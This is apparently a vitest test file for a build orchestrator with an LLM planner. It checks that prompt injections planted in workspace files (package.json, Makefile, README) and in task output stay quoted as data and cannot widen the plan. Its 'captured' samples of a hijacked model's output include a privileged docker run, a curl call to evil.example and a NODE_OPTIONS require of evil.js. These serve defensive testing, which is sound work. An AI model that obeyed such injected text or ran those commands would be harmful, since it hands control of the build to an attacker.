import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { RunId } from '#contract/ids.ts';
import { PlannerList, plannerSettings } from '#daemon/planner/models/settings.ts';
import { runReport } from '#daemon/runs/run-report.ts';
import { ModelServer, openai, says, type Asked } from '#test/support/model-server.ts';
import { ofType, Orchestra } from '#test/support/orchestra.ts';
import { keyFile, planner, said, saidPlan, testKey } from '#test/support/planning.ts';
import { tempDir } from '#test/support/temp-dir.ts';

type Injection = { name: string; text: string; times?: number; hides?: string };
/** `becomes`: it is done, under that name, because nothing is wrong with it but whose name it took. */
type Wanted = {
  name: string;
  operations: object[];
  more?: object;
  times?: number;
  becomes?: string;
};

const corpus = <T>(file: string): T[] =>
  JSON.parse(
    readFileSync(new URL(`../../corpus/injections/${file}.json`, import.meta.url), 'utf8'),
  ) as T[];
const inWorkspaces = corpus<Injection>('workspace');
const inOutput = corpus<Injection>('output');
const wanted = corpus<Wanted>('operations');
const textOf = ({ text, times = 1 }: Injection) => text.repeat(times);

/** The words of a file that no prompt may have, in a place where every injection stands as well. */
const body = 'words-of-a-file-that-stay-here';
const sound = saidPlan(
  { id: 'prepare', args: ['run', 'prepare'] },
  { id: 'build', args: ['run', 'build'], deps: ['prepare'] },
  { id: 'pack', args: ['run', 'pack'], deps: ['build'] },
);
/** What a model that was talked into it says: once each of these, and never anything else. */
const captured = [
  { tool: 'docker', args: ['run', '--privileged', 'x'] },
  { tool: 'exec', args: ['curl', 'http://evil.example'] },
  { env: [{ name: 'NODE_OPTIONS', value: '--require=./evil.js' }] },
].map((task) => JSON.stringify({ assumptions: [], tasks: [said(task)] }));

let it: Orchestra;
let server: ModelServer;
let dir: Awaited<ReturnType<typeof tempDir>>;
let answer: (asked: Asked, nth: number) => string;

beforeAll(async () => {
  dir = await tempDir();
  server = await ModelServer.open(async (answering) => {
    const text = answer(answering.asked, server.asked.length);
    await says(openai, text)(answering);
  });
  const settings = [planner(openai, server, keyFile(dir.path))];
  it = await Orchestra.open({
    config: { planners: plannerSettings(PlannerList.parse(settings)), planWithinMs: 20_000 },
  });
});

afterAll(async () => {
  await it[Symbol.asyncDispose]();
  await server[Symbol.asyncDispose]();
  await dir[Symbol.asyncDispose]();
});

const turnsOf = ({ body: asked }: Asked) => asked['input'] as { role: string; content: string }[];

/** Everything that came from outside stands in one line of plain ASCII, within its bounds. */
function expectQuoted(all: readonly Asked[]): void {
  for (const one of all) {
    const text = turnsOf(one).find(({ role }) => role === 'user')?.content ?? '';
    const [intent = '', data = '', ...more] = text.split('\n');
    expect(more).toEqual([]);
    expect(text).not.toMatch(/[^\x20-\x7e\n]|[<>&`]/);
    expect(JSON.parse(intent.replace(/^INTENT /, ''))).toBe('build it');
    expect(() => JSON.parse(data.replace(/^DATA /, '')) as unknown).not.toThrow();
    expect(text.length).toBeLessThan(64 * 1024);
    expect(JSON.stringify(one.body)).not.toContain(body);
    expect(JSON.stringify(one.body)).not.toContain(testKey);
  }
}

/** Nothing of it moves a cursor or turns text around, wherever a person reads it. */
async function expectClean(run: RunId): Promise<void> {
  const text = await runReport(it.rooms.runs, it.rooms.deps, run);
  expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}]/u);
}

const ranIn = async (run: RunId) =>
  ofType(await it.records(run), 'task.started').map(({ obj }) => obj?.['task']);

test('the corpus has what it says', () => {
  const names = [inWorkspaces, inOutput, wanted].flatMap((all) => all.map(({ name }) => name));
  expect(names.length).toBeGreaterThanOrEqual(60);
  for (const all of [inWorkspaces, inOutput, wanted]) {
    expect(new Set(all.map(({ name }) => name)).size).toBe(all.length);
  }
});

test.each(inWorkspaces)(
  'first plan and repair: $name in a workspace, and a model that obeys, come to the plan of the rules',
  async (injection) => {
    const text = textOf(injection);
    const file = text.replaceAll('/', '\u2215').replaceAll('\0', '').slice(0, 60);
    const files = {
      'package.json': JSON.stringify({
        name: text,
        description: `${text} ${body}`,
        scripts: { build: 'tsc', [text]: `${text} ${body}`, hidden: `node ${body}` },
        author: text,
      }),
      'package-lock.json': JSON.stringify({ name: text, [text]: body, lockfileVersion: 3 }),
      Makefile: `${text}:\n\techo ${body}\n`,
      'README.md': `${text} ${body}`,
      [`${file}.md`]: `${text} ${body}`,
    };
    const from = server.asked.length;
    answer = (_asked, nth) => captured[(nth - from - 1) % captured.length] ?? '';
    const run = await it.run('', { intent: 'build it', files });
    const asked = server.asked.slice(from);
    expect(asked.length).toBe(3);
    expectQuoted(asked);
    const plan = await it.rooms.runs.planOf(it.rooms.runs.find(run));
    expect(plan?.planner).toBe('rules');
    expect(plan?.tasks.map(({ tool }) => tool).every((tool) => tool === 'npm')).toBe(true);
    expect(plan?.tasks.every(({ env }) => !('NODE_OPTIONS' in env))).toBe(true);
    await expectClean(run);
  },
);

/** A run of which `build` fails for good, and says that. */
async function failing(text: string, operations: () => string): Promise<RunId> {
  it.programs.set('build', { exitCode: 2, output: [[2, `${text}\n`]] });
  const files = { 'package.json': JSON.stringify({ scripts: { build: 'x', b: 'x', pack: 'x' } }) };
  const from = server.asked.length;
  answer = (_asked, nth) => (nth === from + 1 ? sound : operations());
  return it.run('', { intent: 'build it', files });
}

test.each(inOutput)(
  'classification and replanning: $name in what a task says stays data, and nothing comes of it',
  async (injection) => {
    const from = server.asked.length;
    const run = await failing(textOf(injection), () =>
      JSON.stringify({
        operations: [
          { op: 'replace', id: 'build', task: said({ tool: 'docker', id: 'x', args: [] }) },
        ],
      }),
    );
    const records = await it.records(run);
    const kinds = ofType(records, 'failure.classified').map(({ data }) => data.class);
    // What a task says of itself never makes its failure somebody else's.
    for (const kind of kinds) expect(['infra_permanent', 'denied']).not.toContain(kind);
    const asked = server.asked.slice(from);
    expectQuoted(asked);
    const { hides } = injection;
    if (hides !== undefined) {
      for (const { body: told } of asked) expect(JSON.stringify(told)).not.toContain(hides);
    }
    expect(ofType(records, 'plan.revised')).toEqual([]);
    expect(new Set(await ranIn(run))).toEqual(new Set(['prepare', 'build']));
    expect(it.rooms.runs.find(run).state).toBe('failed');
    await expectClean(run);
  },
);

test.each(wanted)(
  'replanning: a model that wants $name widens nothing',
  async ({ operations, more, times = 1, becomes }) => {
    const all = operations.map((one) => ({
      ...one,
      ...('task' in one ? { task: said(one.task as Record<string, unknown>) } : {}),
    }));
    const many = Array.from({ length: times }, () => all).flat();
    const from = server.asked.length;
    const run = await failing('src/a.ts(1,1): error TS2304: no name', () =>
      JSON.stringify({ operations: many, ...more }),
    );
    expect(server.asked.length - from).toBeGreaterThan(1);
    const records = await it.records(run);
    if (becomes !== undefined) {
      const [revised] = ofType(records, 'plan.revised');
      expect(revised?.data.steps).toEqual([{ op: 'replace', task: 'build', as: becomes }]);
      expect(await ranIn(run)).toEqual(['prepare', 'build', becomes, 'pack']);
      return;
    }
    expect(ofType(records, 'plan.revised')).toEqual([]);
    expect(ofType(records, 'replan.refused').map(({ data }) => data.code)).toEqual(['no_way']);
    expect(await ranIn(run)).toEqual(['prepare', 'build']);
    expect(it.rooms.runs.find(run).state).toBe('failed');
  },
);
